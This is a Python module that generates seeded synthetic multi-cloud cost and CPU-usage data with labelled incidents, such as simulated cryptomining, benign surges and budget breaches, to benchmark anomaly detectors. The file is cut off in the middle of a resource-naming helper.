"""Seeded, labelled multi-cloud data: the demo's data set and the benchmark's ground truth.

Detection is only as honest as the data it is judged on, so the generator reproduces what makes real
exports hard rather than what makes a detector look good: weekly shape, trend and noise in spend, month-end
jobs, credits and refunds, missing export days, node churn, batch nodes that sit at 90% CPU every night,
and benign surges and capacity steps that move cost and CPU without being mining.  Compute cost is derived
from the same node fleet the CPU samples come from (hourly price x hours run), so a miner on new nodes
moves both signals and a miner on existing nodes moves only CPU, exactly as in a real account.

Everything is drawn from independent child streams of one ``SeedSequence`` (projects, nodes, CPU, cost,
incidents), so ``clean=True`` gives the same projects, fleet and base series as the labelled run, and a
scenario is reproducible from its seed alone.  Arrays are nodes x hours and series x days; Python loops
only run over projects, nodes' metadata and incidents.
"""

from __future__ import annotations

import math
import uuid
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from typing import Any

import numpy as np
import pandas as pd

from .model import COST_COLUMNS, USAGE_COLUMNS, normalize_costs, normalize_usage

__all__ = ["ALL_KINDS", "CLASS_KINDS", "COST_CHANGE_KINDS", "INCIDENT_KINDS", "MINING_KINDS", "Scenario",
           "demo_scenario", "generate"]

INCIDENT_KINDS: tuple[str, ...] = (
    "mining_new_nodes", "mining_existing_nodes", "mining_stealth", "mining_cost_only",
    "benign_surge", "planned_step", "budget_breach",
)
# the failure classes of issue 16, generated with ``failure_classes=True``: a busy node saturating inside a
# project-wide surge, a legitimate training job on new GPU nodes, a miner that has run for 30+ days, an
# unplanned persistent cost step and a runaway spend spike of a few days
CLASS_KINDS: tuple[str, ...] = ("saturating_surge", "legit_gpu_job", "mining_long", "cost_step", "cost_spike")
ALL_KINDS: tuple[str, ...] = INCIDENT_KINDS + CLASS_KINDS
MINING_KINDS = frozenset({"mining_new_nodes", "mining_existing_nodes", "mining_stealth", "mining_cost_only",
                          "mining_long"})
# incidents an owner must hear about as a cost change (a cost alert or a budget forecast)
COST_CHANGE_KINDS = frozenset({"budget_breach", "cost_step", "cost_spike"})
_CPU_KINDS = frozenset({"mining_new_nodes", "mining_existing_nodes", "mining_stealth", "benign_surge",
                        "planned_step", "saturating_surge", "legit_gpu_job", "mining_long"})
# most constrained first, so a small scenario still gets one incident of each kind when it can
_PLACEMENT_ORDER = ("mining_cost_only", "saturating_surge", "mining_new_nodes", "mining_existing_nodes",
                    "mining_stealth", "mining_long", "legit_gpu_job", "benign_surge", "planned_step",
                    "budget_breach", "cost_step", "cost_spike")

HOUR = pd.Timedelta(hours=1)
DAY = pd.Timedelta(days=1)
_POD_COLUMNS = ("project_id", "node", "namespace", "pod", "image", "labels", "command")


@dataclass
class Scenario:
    """Data plus ground truth.  Labels live beside the frames, never in them, so a detector run on
    ``costs``/``usage`` sees exactly what it would see in a real account.

    ``incidents.nodes`` are node names; a node's cost rows carry a ``resource_id`` that is, or ends with,
    that name.  ``projects`` also carries the home ``region`` and ``currency``.  Data covers ``[start, end)``.

    ``pods`` is the Kubernetes view of the incident nodes a cluster API would give (node, namespace, pod,
    image, labels, command): what tells a training job from an allowlisted registry with owner labels from
    a miner's pod.  ``patterns`` lists the recurring patterns of clean history per project (month-end jobs,
    holidays, autoscaling, deploys, hot nodes), ``failure_classes=True`` only.
    """

    costs: pd.DataFrame
    usage: pd.DataFrame
    incidents: pd.DataFrame
    projects: pd.DataFrame
    start: pd.Timestamp
    end: pd.Timestamp
    pods: pd.DataFrame = field(default_factory=lambda: pd.DataFrame(columns=list(_POD_COLUMNS)))
    patterns: pd.DataFrame = field(default_factory=lambda: pd.DataFrame(columns=["project_id", "pattern", "detail"]))



# ----------------------------------------------------------------------------------------- catalogue

@dataclass(frozen=True)
class _Cloud:
    home: dict[str, int]  # home region -> UTC offset of its business hours (no DST: a day shape, not a clock)
    attack: tuple[str, ...]  # regions no generated project ever uses
    types: tuple[tuple[str, float], ...]  # general purpose instance types, on-demand USD/hour (Linux)
    batch: tuple[tuple[str, float], ...]
    gpu: tuple[tuple[str, float], ...]
    miner: tuple[tuple[str, float], ...]  # compute-optimised types a miner picks when GPUs are out of quota
    services: dict[str, str]  # service category -> service name
    kube_fee: tuple[str, float] | None  # managed control plane, USD/hour
    ml: str


_CLOUDS: dict[str, _Cloud] = {
    "aws": _Cloud(
        home={"us-east-1": -5, "us-west-2": -8, "eu-west-1": 0, "eu-central-1": 1, "ap-southeast-1": 8},
        attack=("ap-south-1", "sa-east-1", "ap-northeast-3", "me-south-1", "af-south-1"),
        types=(("m5.large", 0.096), ("m5.xlarge", 0.192), ("m5.2xlarge", 0.384), ("c5.xlarge", 0.17),
               ("c5.2xlarge", 0.34), ("r5.xlarge", 0.252), ("m6i.xlarge", 0.192), ("t3.large", 0.0832)),
        batch=(("c5.2xlarge", 0.34), ("c5.4xlarge", 0.68), ("r5.2xlarge", 0.504)),
        gpu=(("p3.2xlarge", 3.06), ("g4dn.xlarge", 0.526), ("g5.xlarge", 1.006)),
        miner=(("c5.4xlarge", 0.68), ("c5.9xlarge", 1.53), ("c6i.8xlarge", 1.36)),
        services={"Compute": "Amazon Elastic Compute Cloud", "Storage": "Amazon Simple Storage Service",
                  "Databases": "Amazon Relational Database Service", "Networking": "Amazon CloudFront",
                  "Analytics": "Amazon Athena", "Management and Governance": "Amazon CloudWatch"},
        kube_fee=("Amazon Elastic Kubernetes Service", 0.10),
        ml="Amazon SageMaker",
    ),
    "gcp": _Cloud(
        home={"us-central1": -6, "us-east1": -5, "europe-west1": 1, "europe-west4": 1, "asia-northeast1": 9},
        attack=("asia-south1", "southamerica-east1", "australia-southeast1", "me-west1"),
        types=(("n2-standard-4", 0.194236), ("n2-standard-8", 0.388472), ("e2-standard-4", 0.134012),
               ("e2-standard-8", 0.268024), ("n2-highmem-4", 0.262092), ("c2-standard-8", 0.4176)),
        batch=(("c2-standard-8", 0.4176), ("n2-highcpu-16", 0.57368)),
        gpu=(("a2-highgpu-1g", 3.673385), ("g2-standard-4", 0.70683)),
        miner=(("c2-standard-16", 0.8352), ("n2-highcpu-32", 1.14736)),
        services={"Compute": "Compute Engine", "Storage": "Cloud Storage", "Databases": "Cloud SQL",
                  "Networking": "Networking", "Analytics": "BigQuery",
                  "Management and Governance": "Cloud Monitoring"},
        kube_fee=("Kubernetes Engine", 0.10),
        ml="Vertex AI",
    ),
    "azure": _Cloud(
        home={"westeurope": 1, "eastus": -5, "northeurope": 0, "eastus2": -5, "southeastasia": 8},
        attack=("brazilsouth", "koreacentral", "australiaeast", "centralindia"),
        types=(("Standard_D4s_v5", 0.192), ("Standard_D8s_v5", 0.384), ("Standard_D2s_v5", 0.096),
               ("Standard_E4s_v5", 0.252), ("Standard_F8s_v2", 0.338), ("Standard_B4ms", 0.166)),
        batch=(("Standard_F8s_v2", 0.338), ("Standard_F16s_v2", 0.677)),
        gpu=(("Standard_NC6s_v3", 3.06), ("Standard_NC4as_T4_v3", 0.526)),
        miner=(("Standard_F16s_v2", 0.677), ("Standard_F32s_v2", 1.353)),
        services={"Compute": "Virtual Machines", "Storage": "Storage", "Databases": "Azure SQL Database",
                  "Networking": "Bandwidth", "Analytics": "Azure Synapse Analytics",
                  "Management and Governance": "Azure Monitor"},
        kube_fee=None,  # AKS free tier
        ml="Azure Machine Learning",
    ),
}

# list prices differ by region; attackers don't care, and their bill shows it
_PRICE_FACTOR: dict[str, float] = {
    "eu-west-1": 1.1, "eu-central-1": 1.15, "ap-southeast-1": 1.2, "ap-south-1": 1.05, "sa-east-1": 1.55,
    "ap-northeast-3": 1.25, "me-south-1": 1.2, "af-south-1": 1.3,
    "europe-west1": 1.1, "europe-west4": 1.1, "asia-northeast1": 1.25, "asia-south1": 1.2,
    "southamerica-east1": 1.5, "australia-southeast1": 1.35, "me-west1": 1.15,
    "westeurope": 1.1, "northeurope": 1.05, "southeastasia": 1.2, "brazilsouth": 1.5, "koreacentral": 1.2,
    "australiaeast": 1.3, "centralindia": 1.1,
}
_EUR_PER_USD = 0.93

_TEAMS = ("payments", "checkout", "search", "identity", "ads", "analytics", "ml-platform", "data-eng", "web",
          "mobile-api", "billing", "inventory", "recs", "media", "support", "growth", "platform", "risk",
          "logistics", "catalog", "notifications", "pricing")
_ENVS = ("prod", "prod", "prod", "staging", "dev", "sandbox", "shared")
_PEOPLE = ("alice.nguyen", "bob.schmidt", "carla.rossi", "dev.patel", "emma.jones", "farid.haddad",
           "grace.kim", "hugo.martin", "ines.silva", "jonas.berg", "kofi.mensah", "lena.weber")
_DOMAIN = "example.com"

# (category, share of nominal daily compute: low, high; weekend factor: low, high; noise sigma; trend sigma)
_SERVICE_SHAPES: dict[str, tuple[float, float, float, float, float]] = {
    "Storage": (0.08, 0.35, 0.96, 1.0, 0.025),
    "Databases": (0.2, 0.8, 0.85, 0.97, 0.05),
    "Networking": (0.04, 0.2, 0.6, 0.85, 0.09),
    "Analytics": (0.05, 0.3, 0.4, 0.8, 0.10),
    "Management and Governance": (0.02, 0.06, 0.9, 1.0, 0.05),
}


# --------------------------------------------------------------------------------------------- types

@dataclass
class _Project:
    idx: int
    project_id: str
    name: str
    team: str
    env: str
    provider: str
    owner: str
    region: str
    tz: int
    currency: str
    has_usage: bool
    new: bool
    first_day: int
    cluster: str | None
    discount: float  # effective/billed on compute: commitments (savings plans, CUDs, reservations)
    budget_draw: float  # >0: the project has a monthly budget this many times its normal month
    threshold_draw: float  # >0: a daily threshold this many times its highest normal day
    tags: dict[str, str]
    credited: bool  # gets a monthly credit on the 1st
    peak_hour: float  # local hour of the daily CPU peak
    width: float  # hours: how wide the business-day hump is
    weekend: float  # weekend CPU relative to weekdays
    compute_daily: float = 0.0  # nominal compute spend/day of the base fleet, in the project's currency
    main_nodes: list[int] = field(default_factory=list)
    other_nodes: list[int] = field(default_factory=list)  # secondary pool, churn replacements
    batch_nodes: list[int] = field(default_factory=list)
    office_nodes: list[int] = field(default_factory=list)
    hot_node: int = -1  # failure classes: a node that usually runs at 60-75% CPU
    networking_series: int = -1
    pool: Any = None  # the main node pool, so autoscaled and step-up nodes continue its naming


@dataclass
class _Nodes:
    """Column store of every node (base fleet and incident nodes); one entry per node."""

    name: list[str] = field(default_factory=list)
    project: list[int] = field(default_factory=list)
    region: list[str] = field(default_factory=list)
    cluster: list[str | None] = field(default_factory=list)
    itype: list[str] = field(default_factory=list)
    price: list[float] = field(default_factory=list)  # per hour, project currency, incl. region factor
    discount: list[float] = field(default_factory=list)
    h0: list[int] = field(default_factory=list)  # first hour alive (index from scenario start)
    h1: list[int] = field(default_factory=list)  # exclusive
    office: list[bool] = field(default_factory=list)  # scaled out on weekdays 08:00-20:00 local only
    peak: list[float] = field(default_factory=list)  # CPU % at the daily peak
    trough: list[float] = field(default_factory=list)
    sigma: list[float] = field(default_factory=list)
    trend: list[float] = field(default_factory=list)  # relative change per day
    batch: list[tuple[int, int, float] | None] = field(default_factory=list)  # (UTC hour, hours, level)
    resource: list[str] = field(default_factory=list)
    tags: list[dict[str, str]] = field(default_factory=list)

    def __len__(self) -> int:
        return len(self.name)


@dataclass
class _Series:
    """Column store of non-node cost series (services, credits); values are per day."""

    project: list[int] = field(default_factory=list)
    service: list[str] = field(default_factory=list)
    category: list[str] = field(default_factory=list)
    region: list[str] = field(default_factory=list)
    charge: list[str] = field(default_factory=list)
    resource: list[str | None] = field(default_factory=list)
    tags: list[dict[str, str]] = field(default_factory=list)
    values: list[np.ndarray] = field(default_factory=list)

    def add(self, project: int, service: str, category: str, region: str, charge: str, resource: str | None,
            tags: dict[str, str], values: np.ndarray) -> int:
        self.project.append(project)
        self.service.append(service)
        self.category.append(category)
        self.region.append(region)
        self.charge.append(charge)
        self.resource.append(resource)
        self.tags.append(tags)
        self.values.append(values)
        return len(self.project) - 1


@dataclass
class _CpuOp:
    """One incident's effect on CPU, applied to the nodes x hours matrices after the normal shape."""

    # "scale" (surge), "step" (capacity step or deploy), "pin" (new miner or training nodes), "floor" (miner on
    # a node), "saturate" (a busy node capped at 100%)
    kind: str
    rows: list[int]
    t0: int
    t1: int
    level: float = 0.0
    std: float = 0.0


@dataclass
class _Knobs:
    """Variants the demo pins down so its story is the same on every machine."""

    new_nodes_gpu: bool | None = None
    new_nodes_new_region: bool | None = None
    stealth_level: float | None = None
    miners_stay: bool = False  # no miner is cleaned up before the data ends


@dataclass
class _World:
    rng: np.random.Generator
    projects: list[_Project]
    nodes: _Nodes
    series: _Series
    days: pd.DatetimeIndex
    used_names: set[str]
    n_hours: int
    ops: list[_CpuOp] = field(default_factory=list)
    budget_unit: dict[int, int] = field(default_factory=dict)  # project -> series idx of the breach service
    labels: list[dict[str, Any]] = field(default_factory=list)
    holidays: np.ndarray | None = None  # projects x days: public holidays of the project's users
    pods: list[dict[str, Any]] = field(default_factory=list)
    patterns: list[dict[str, Any]] = field(default_factory=list)


# ----------------------------------------------------------------------------------------------- API

def generate(seed: int = 7, n_projects: int = 12, days: int = 70, end: str | pd.Timestamp = "2026-11-20",
             incident_kinds: Sequence[str] | None = None, clean: bool = False,
             failure_classes: bool = False) -> Scenario:
    """A labelled multi-cloud data set covering the ``days`` whole UTC days before ``end``.

    ``end`` is exclusive and is what ``detect(..., as_of=scenario.end)`` should be given.  Incidents start
    in the last ten days, after at least three weeks of clean history where there are that many days, so
    every detector has a normal to compare against.  Each requested kind is placed once, then more are
    drawn until about 45% of projects have one (at most one each); a kind no project can host (cost-only
    mining needs a project without CPU data) is skipped rather than faked.

    ``failure_classes=True`` adds what issue 16 found detectors tuned on the plain scenarios get wrong
    (use 120+ days so monthly patterns repeat): in every world, clean projects included, month-end /
    month-start (and quarter-end) batch jobs on about a quarter of projects, public-holiday dips, an
    autoscaler adding and removing nodes, deploy-day steps in CPU, and nodes that usually run at 60-75%;
    and the incident kinds ``CLASS_KINDS``: saturating surges, legitimate GPU training jobs, miners running
    30-40 days (to the end of the data: a miner is active for as long as it runs), unplanned persistent
    cost steps started 4-25 days before the end, and runaway spend spikes.  Its random draws come from a
    stream of their own, so the default worlds are unchanged.
    """
    return _generate(seed, n_projects, days, end, incident_kinds, clean, _Knobs(), failure_classes)


def demo_scenario() -> Scenario:
    """The ``costwatch demo`` data: a GPU miner in a region never used, a stealthy capped miner, a benign
    surge and a budget overrun, with the remaining projects clean.  The variants are pinned, not left to
    the seed, so the demo tells the same story after any change to the generator."""
    return _generate(42, 8, 63, "2026-11-20",
                     ("mining_new_nodes", "mining_stealth", "benign_surge", "budget_breach"), False,
                     _Knobs(new_nodes_gpu=True, new_nodes_new_region=True, stealth_level=60.0, miners_stay=True))


def _generate(seed: int, n_projects: int, n_days: int, end: str | pd.Timestamp,
              incident_kinds: Sequence[str] | None, clean: bool, knobs: _Knobs,
              failure_classes: bool = False) -> Scenario:
    if n_projects < 1 or n_days < 2:
        raise ValueError("a scenario needs at least one project and two days")
    known = ALL_KINDS if failure_classes else INCIDENT_KINDS
    kinds = tuple(known if incident_kinds is None else incident_kinds)
    unknown = [k for k in kinds if k not in known]
    if unknown:
        hint = "" if failure_classes or not set(unknown) <= set(CLASS_KINDS) else " (needs failure_classes=True)"
        raise ValueError(f"unknown incident kind(s) {', '.join(unknown)}{hint}; known: {', '.join(known)}")
    end_ts = pd.Timestamp(end)
    end_ts = (end_ts.tz_localize("UTC") if end_ts.tzinfo is None else end_ts.tz_convert("UTC")).floor("D")
    start_ts = end_ts - n_days * DAY
    days = pd.date_range(start_ts, periods=n_days, freq="D")
    n_hours = 24 * n_days
    # a sixth child for the failure classes: SeedSequence children are keyed by index, so the first five
    # are the same as before it existed
    r_proj, r_nodes, r_cpu, r_cost, r_inc, r_cls = (
        np.random.default_rng(s) for s in np.random.SeedSequence(seed).spawn(6))

    projects = _make_projects(r_proj, n_projects, n_days)
    used: set[str] = set()
    nodes = _make_fleet(r_nodes, projects, n_hours, used)
    series = _Series()
    _make_services(r_cost, projects, series, days)
    world = _World(r_inc, projects, nodes, series, days, used, n_hours)
    if failure_classes:
        _recurring_patterns(world, r_cls)
    n_base_nodes, n_base_series = len(nodes), len(series.project)
    missing = _missing_days(r_cost, projects, n_days)

    if not clean and kinds:
        _place_incidents(world, kinds, knobs)

    alive = _alive(nodes, projects, days, world.holidays)
    node_cost, hours_run = _node_costs(nodes, alive, n_days)
    clean_net, clean_gross = _clean_daily(projects, nodes, series, node_cost, n_base_nodes, n_base_series,
                                          missing, n_days)
    budgets, thresholds = _budgets(world, clean_net, clean_gross)
    costs = _cost_frame(world, node_cost, hours_run, missing)
    usage = _usage_frame(world, r_cpu, n_base_nodes, alive)
    incidents = _incident_frame(world.labels)
    proj = pd.DataFrame({
        "project_id": [p.project_id for p in projects],
        "project_name": [p.name for p in projects],
        "provider": [p.provider for p in projects],
        "owner": [p.owner for p in projects],
        "has_usage": np.array([p.has_usage for p in projects], dtype=bool),
        "first_day": pd.DatetimeIndex([days[p.first_day] for p in projects]),
        "monthly_budget": budgets,
        "daily_threshold": thresholds,
        "region": [p.region for p in projects],
        "currency": [p.currency for p in projects],
    })
    pods = pd.DataFrame(world.pods, columns=list(_POD_COLUMNS))
    patterns = pd.DataFrame(world.patterns, columns=["project_id", "pattern", "detail"])
    return Scenario(costs, usage, incidents, proj, start_ts, end_ts, pods, patterns)


# ------------------------------------------------------------------------------------------ projects

def _make_projects(rng: np.random.Generator, n: int, n_days: int) -> list[_Project]:
    base = ["aws", "gcp", "azure"][: min(n, 3)]
    extra = list(rng.choice(["aws", "gcp", "azure"], size=max(n - 3, 0), p=[0.4, 0.3, 0.3]))
    providers = [str(p) for p in rng.permutation(base + extra)]
    n_new = 0 if n < 4 else (1 if n < 10 else 2)
    order = rng.permutation(n)
    new_set = set(order[:n_new].tolist())
    n_no_usage = 0 if n < 3 else max(1, round(0.25 * n))
    no_usage = set(rng.permutation(n)[:n_no_usage].tolist())
    n_credit = max(1, round(0.3 * n))
    credited = set(rng.permutation(n)[:n_credit].tolist())
    azure = [i for i, p in enumerate(providers) if p == "azure"]
    eur = int(rng.choice(azure)) if (azure and n >= 6) else -1
    names: set[str] = set()
    out: list[_Project] = []
    for i, provider in enumerate(providers):
        cloud = _CLOUDS[provider]
        team, env = str(rng.choice(_TEAMS)), str(rng.choice(_ENVS))
        name = f"{team}-{env}"
        k = 2
        while name in names:
            name, k = f"{team}-{env}-{k}", k + 1
        names.add(name)
        if provider == "aws":
            pid = str(rng.integers(10**11, 10**12))
        elif provider == "gcp":
            pid = f"{name[:24].rstrip('-')}-{rng.integers(1000, 10000)}"
        else:
            pid = str(uuid.UUID(bytes=rng.bytes(16), version=4))
        owner = (f"{team}-oncall@{_DOMAIN}" if rng.random() < 0.35 else
                 f"{rng.choice(_PEOPLE)}@{_DOMAIN}" if rng.random() < 0.5 else f"team-{team}")
        region = str(rng.choice(list(cloud.home)))
        is_new = i in new_set
        first_day = max(0, n_days - int(rng.integers(7, 10))) if is_new else 0
        has_usage = i not in no_usage
        cluster = None
        if has_usage or rng.random() < 0.5:
            cluster = {"aws": f"{name}-eks", "gcp": name[:24].rstrip("-"), "azure": f"aks-{name}"}[provider]
        discount = float(rng.uniform(0.6, 0.8)) if rng.random() < 0.2 else 1.0
        budget_draw = float(rng.uniform(1.25, 1.6)) if rng.random() < 0.35 else 0.0
        threshold_draw = float(rng.uniform(1.6, 2.2)) if rng.random() < 0.35 else 0.0
        out.append(_Project(
            i, pid, name, team, env, provider, owner, region, cloud.home[region], "EUR" if i == eur else "USD",
            has_usage, is_new, first_day, cluster, discount, budget_draw, threshold_draw,
            {"owner": owner, "team": team, "env": env}, i in credited, float(rng.uniform(12.5, 15.5)),
            float(rng.uniform(3.0, 4.5)), float(rng.uniform(0.55, 0.95))))
    return out


def _fx(p: _Project) -> float:
    return _EUR_PER_USD if p.currency == "EUR" else 1.0


# --------------------------------------------------------------------------------------------- fleet

def _unique(used: set[str], make: Any) -> str:
    """Names are drawn at random; node ids key the CPU matrix, so a collision across projects would merge
    two nodes.  Redraw until unused (deterministic, and practically never loops)."""
    while True:
        name = str(make())
        if name not in used:
            used.add(name)
            return name


def _b36(k: int, width: int = 6) -> str:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    s = ""
    while k:
        k, r = divmod(k, 36)
        s = digits[r] + s
    return s.rjust(width, "0")


@dataclass
class _Pool:
    """Naming state of one node group, so node names look like the ones each cloud really prints."""

    project: _Project
    pool: str
    cluster: str | None
    region: str
    itype: str
    price: float
    zone: str
    tag: str = ""  # GKE instance-group hash / AKS vmss number
    count: int = 0


def _new_pool(rng: np.random.Generator, p: _Project, pool: str, cluster: str | None, region: str,
              itype: str, usd_price: float) -> _Pool:
    tag = f"{rng.integers(0, 16**8):08x}" if p.provider == "gcp" else f"{rng.integers(10**7, 10**8)}"
    zone = f"{region}-{rng.choice(['a', 'b', 'c'])}"
    price = usd_price * _PRICE_FACTOR.get(region, 1.0) * _fx(p)
    return _Pool(p, pool, cluster, region, itype, price, zone, tag)


def _node_name(rng: np.random.Generator, pool: _Pool, used: set[str]) -> str:
    prov = pool.project.provider
    alnum = "abcdefghijklmnopqrstuvwxyz0123456789"
    if prov == "aws":
        return _unique(used, lambda: f"i-0{rng.integers(0, 2**63):016x}")
    if prov == "gcp":
        if pool.cluster is None:
            return _unique(used, lambda: f"{pool.pool}-{''.join(rng.choice(list(alnum), 4))}")
        return _unique(used, lambda: f"gke-{pool.cluster}-{pool.pool}-{pool.tag}-"
                                     f"{''.join(rng.choice(list(alnum), 4))}")

    def numbered() -> str:
        pool.count += 1
        if pool.cluster is None:
            return f"{pool.pool}-{pool.count:02d}"
        return f"aks-{pool.pool}-{pool.tag}-vmss{_b36(pool.count - 1)}"

    return _unique(used, numbered)


def _resource_id(pool: _Pool, node: str) -> str:
    p = pool.project
    if p.provider == "aws":
        return node
    if p.provider == "gcp":
        return f"//compute.googleapis.com/projects/{p.project_id}/zones/{pool.zone}/instances/{node}"
    group = f"MC_rg-{p.name}_{pool.cluster}_{pool.region}" if pool.cluster else f"rg-{p.name}"
    return f"/subscriptions/{p.project_id}/resourceGroups/{group}/providers/Microsoft.Compute/virtualMachines/{node}"


def _add_node(nodes: _Nodes, rng: np.random.Generator, pool: _Pool, used: set[str], h0: int, h1: int, *,
              peak: float, trough: float, sigma: float, trend: float = 0.0,
              batch: tuple[int, int, float] | None = None, tagged: bool = True, discount: float = 1.0,
              office: bool = False) -> int:
    name = _node_name(rng, pool, used)
    p = pool.project
    tags = dict(p.tags) if tagged else {}
    if tagged and pool.cluster:
        key = {"aws": "eks:cluster-name", "gcp": "goog-k8s-cluster-name", "azure": "aks-managed-cluster-name"}
        tags[key[p.provider]] = pool.cluster
    nodes.name.append(name)
    nodes.project.append(p.idx)
    nodes.region.append(pool.region)
    nodes.cluster.append(pool.cluster)
    nodes.itype.append(pool.itype)
    nodes.price.append(pool.price)
    nodes.discount.append(discount)
    nodes.h0.append(h0)
    nodes.h1.append(h1)
    nodes.office.append(office)
    nodes.peak.append(peak)
    nodes.trough.append(trough)
    nodes.sigma.append(sigma)
    nodes.trend.append(trend)
    nodes.batch.append(batch)
    nodes.resource.append(_resource_id(pool, name))
    nodes.tags.append(tags)
    return len(nodes) - 1


def _make_fleet(rng: np.random.Generator, projects: list[_Project], n_hours: int, used: set[str]) -> _Nodes:
    nodes = _Nodes()
    for p in projects:
        cloud = _CLOUDS[p.provider]
        h0 = 24 * p.first_day
        n_main = int(rng.integers(2, 5)) if p.new else int(np.clip(round(math.exp(rng.normal(math.log(5), 0.6))),
                                                                   2, 30))
        itype, usd = cloud.types[int(rng.integers(len(cloud.types)))]
        pool_name = {"aws": "workers", "gcp": "default-pool", "azure": "nodepool1"}[p.provider]
        main = p.pool = _new_pool(rng, p, pool_name, p.cluster, p.region, itype, usd)
        level = float(rng.uniform(15, 42))
        for _ in range(n_main):
            peak = float(np.clip(level * rng.uniform(0.85, 1.15), 10, 45))
            p.main_nodes.append(_add_node(
                nodes, rng, main, used, h0, n_hours, peak=peak, trough=peak * float(rng.uniform(0.25, 0.5)),
                sigma=float(rng.uniform(3, 6)), trend=float(rng.normal(0, 0.0008)), discount=p.discount))
        if len(p.main_nodes) >= 3 and rng.random() < 0.35 and not p.new:
            # a scheduled scale-out for business hours: compute spend gets a weekly shape of its own
            for _ in range(int(rng.integers(1, 3))):
                like = p.main_nodes[int(rng.integers(len(p.main_nodes)))]
                p.office_nodes.append(_add_node(
                    nodes, rng, main, used, h0, n_hours, peak=nodes.peak[like], trough=nodes.trough[like],
                    sigma=nodes.sigma[like], discount=p.discount, office=True))
        if rng.random() < 0.25 and not p.new:
            itype2, usd2 = cloud.types[int(rng.integers(len(cloud.types)))]
            second = _new_pool(rng, p, {"aws": "api", "gcp": "pool-2", "azure": "userpool"}[p.provider],
                               p.cluster, p.region, itype2, usd2)
            for _ in range(int(rng.integers(1, 5))):
                peak = float(rng.uniform(10, 45))
                p.other_nodes.append(_add_node(
                    nodes, rng, second, used, h0, n_hours, peak=peak, trough=peak * float(rng.uniform(0.25, 0.5)),
                    sigma=float(rng.uniform(3, 6)), discount=p.discount))
        if rng.random() < 0.3 and not p.new:
            btype, busd = cloud.batch[int(rng.integers(len(cloud.batch)))]
            bpool = _new_pool(rng, p, {"aws": "batch", "gcp": "batch-pool", "azure": "batchpool"}[p.provider],
                              p.cluster, p.region, btype, busd)
            for _ in range(int(rng.integers(1, 3))):
                peak = float(rng.uniform(6, 14))
                spec = (int(rng.integers(1, 4)), int(rng.integers(2, 4)), float(rng.uniform(88, 95)))
                p.batch_nodes.append(_add_node(
                    nodes, rng, bpool, used, h0, n_hours, peak=peak, trough=peak * 0.5,
                    sigma=float(rng.uniform(1.5, 3)), batch=spec, discount=p.discount))
        # node churn: a node is replaced (upgrade, spot reclaim) well before any incident window
        lo, hi = h0 + 72, n_hours - 14 * 24
        if len(p.main_nodes) >= 3 and hi > lo and rng.random() < 0.3:
            old = p.main_nodes[int(rng.integers(len(p.main_nodes)))]
            at = int(rng.integers(lo, hi))
            nodes.h1[old] = at
            p.other_nodes.append(_add_node(
                nodes, rng, main, used, at, n_hours, peak=nodes.peak[old], trough=nodes.trough[old],
                sigma=nodes.sigma[old], discount=p.discount))
        p.compute_daily = 24 * float(sum(nodes.price[i] for i in p.main_nodes + p.batch_nodes)
                                     + sum(nodes.price[i] for i in p.other_nodes if nodes.h1[i] == n_hours)
                                     + sum(nodes.price[i] * 12 / 24 * 5 / 7 for i in p.office_nodes))
    return nodes


# ------------------------------------------------------------------------------------------ services

def _weekday(days: pd.DatetimeIndex) -> np.ndarray:
    return np.asarray(days.dayofweek, dtype=np.int64)


def _make_services(rng: np.random.Generator, projects: list[_Project], series: _Series,
                   days: pd.DatetimeIndex) -> None:
    n = len(days)
    t = np.arange(n, dtype=float)
    weekend = _weekday(days) >= 5
    month_end = np.asarray(days.is_month_end, dtype=bool)
    first = np.asarray(days.day == 1, dtype=bool)
    for p in projects:
        cloud = _CLOUDS[p.provider]
        c = max(p.compute_daily, 5.0)
        present = ["Storage", "Networking"]
        present += [k for k, prob in (("Databases", 0.7), ("Analytics", 0.35), ("Management and Governance", 0.6))
                    if rng.random() < prob]
        bump_cat = next((k for k in ("Analytics", "Databases") if k in present), None) \
            if rng.random() < 0.3 else None
        for cat in present:
            lo, hi, wlo, whi, noise = _SERVICE_SHAPES[cat]
            level = max(c * float(rng.uniform(lo, hi)), 0.5)
            week = np.where(weekend, float(rng.uniform(wlo, whi)), 1.0)
            growth = float(rng.uniform(0.001, 0.004)) if cat == "Storage" else float(rng.normal(0.001, 0.0015))
            vals = level * week * np.exp(growth * (t - n)) * np.exp(rng.normal(0, noise, n))
            if cat == bump_cat:
                vals = np.where(month_end, vals * float(rng.uniform(1.8, 3.0)), vals)
            resource = _service_resource(p, cat)
            tags = dict(p.tags) if rng.random() > 0.1 else {}
            k = series.add(p.idx, cloud.services[cat], cat, p.region, "Usage", resource, tags, np.round(vals, 6))
            if cat == "Networking":
                p.networking_series = k
        if rng.random() < 0.2 and not p.new:  # cross-region replica of the storage
            second = str(rng.choice([r for r in cloud.home if r != p.region]))
            vals = c * float(rng.uniform(0.02, 0.1)) * np.exp(rng.normal(0, 0.03, n))
            series.add(p.idx, cloud.services["Storage"], "Storage", second, "Usage", _service_resource(p, "Replica"),
                       dict(p.tags), np.round(vals, 6))
        if cloud.kube_fee and p.cluster:
            svc, per_hour = cloud.kube_fee
            series.add(p.idx, svc, "Compute", p.region, "Usage", _service_resource(p, "Kubernetes"),
                       dict(p.tags),
                       np.full(n, round(24 * per_hour * _fx(p), 6)))
        if p.credited:  # a monthly promotional/commitment credit, booked on the 1st
            month = c * 30 * float(rng.uniform(0.05, 0.2))
            series.add(p.idx, cloud.services["Compute"], "Compute", p.region, "Credit", None, {},
                       np.where(first, -round(month, 2), 0.0))
        if rng.random() < 0.12 and not p.new and n > 10:  # a one-off refund (SLA credit, billing dispute)
            d = int(rng.integers(3, n - 5))
            vals = np.zeros(n)
            vals[d] = -round(c * float(rng.uniform(0.5, 3.0)), 2)
            series.add(p.idx, cloud.services["Compute"], "Compute", p.region, "Adjustment", None, {}, vals)


def _service_resource(p: _Project, cat: str) -> str | None:
    slug = p.name.replace("-", "")[:20]
    if cat == "Networking":
        return None  # data transfer lines carry no resource
    if p.provider == "aws":
        return {"Storage": f"arn:aws:s3:::{p.name}-assets", "Replica": f"arn:aws:s3:::{p.name}-replica",
                "Databases": f"arn:aws:rds:{p.region}:{p.project_id}:db:{p.name}-db",
                "Analytics": f"arn:aws:athena:{p.region}:{p.project_id}:workgroup/primary",
                "Management and Governance": f"arn:aws:logs:{p.region}:{p.project_id}:log-group:/{p.name}",
                "Kubernetes": f"arn:aws:eks:{p.region}:{p.project_id}:cluster/{p.cluster}",
                "ML": f"arn:aws:sagemaker:{p.region}:{p.project_id}:endpoint/{p.name}-llm"}.get(cat)
